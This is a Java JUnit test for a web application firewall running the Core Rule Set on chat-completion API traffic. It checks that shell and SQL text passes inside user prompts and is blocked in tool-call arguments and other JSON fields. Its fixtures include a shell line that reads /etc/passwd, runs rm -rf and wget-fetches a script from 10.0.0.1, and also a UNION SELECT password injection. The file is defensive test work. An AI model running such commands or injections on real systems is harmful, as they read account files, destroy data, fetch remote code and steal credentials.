package dev.aiguard.waf.stage;

import dev.aiguard.api.Guard;
import dev.aiguard.api.PolicyLoader;
import dev.aiguard.api.Verdict;
import dev.aiguard.waf.internal.regex.CrsTestData;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

import static dev.aiguard.waf.stage.LlmFieldScopingTest.post;
import static org.assertj.core.api.Assertions.assertThat;

/**
 * Prompt-field scoping on the real CRS (PL1, RE2/J): benign prompts with shell, SQL and markup are not blocked, while
 * the same text outside prompt fields still is.
 */
class CrsPromptScopingTest {

    private static final String SHELL = "How do I fix this? cat /etc/passwd | grep root; rm -rf /tmp/x && wget http://10.0.0.1/a.sh";
    private static final String SQL = "Why is this slow: SELECT name FROM users WHERE id = 1 OR 1=1 UNION SELECT password FROM admins --";

    private static Guard guard;

    @BeforeAll
    static void load() throws Exception {
        String yaml = """
                apiVersion: aiguard.dev/v1
                stages:
                  - type: crs
                    name: waf
                    budget: 30s
                    directory: %s
                    engine: re2j
                """.formatted(CrsTestData.crsDir().toAbsolutePath());
        guard = Guard.create(PolicyLoader.create().load("crs-scoping.yaml", yaml).toGuardConfig());
    }

    @AfterAll
    static void close() {
        if (guard != null) {
            guard.close();
        }
    }

    private static String json(String s) {
        return s.replace("\\", "\\\\").replace("\"", "\\\"");
    }

    @Test
    void shellAndSqlInUserPromptsPass() {
        assertThat(guard.inspect(post("/v1/chat/completions", LlmFieldScopingTest.chat(json(SHELL)))).blocked()).isFalse();
        assertThat(guard.inspect(post("/v1/chat/completions", LlmFieldScopingTest.chat(json(SQL)))).blocked()).isFalse();
    }

    @Test
    void theSameTextInToolCallArgumentsIsBlocked() {
        String args = json("{\"command\":\"" + json(SHELL) + "\"}");
        Verdict v = guard.inspect(post("/v1/chat/completions", "{\"model\":\"m\",\"messages\":[{\"role\":\"assistant\","
                + "\"tool_calls\":[{\"id\":\"c\",\"type\":\"function\",\"function\":{\"name\":\"sh\",\"arguments\":\""
                + args + "\"}}]}]}"));
        assertThat(v.blocked()).isTrue();
        assertThat(v.ruleIds()).anyMatch(id -> id.startsWith("932") || id.startsWith("930"));
    }

    @Test
    void theSameTextInAnEnvelopeFieldOrAPlainJsonApiIsBlocked() {
        assertThat(guard.inspect(post("/v1/chat/completions", "{\"model\":\"m\",\"user\":\"" + json(SQL)
                + "\",\"messages\":[{\"role\":\"user\",\"content\":\"hi\"}]}")).ruleIds()).anyMatch(id -> id.startsWith("942"));
        assertThat(guard.inspect(post("/v1/orders", "{\"note\":\"" + json(SQL) + "\"}")).blocked()).isTrue();
    }
}
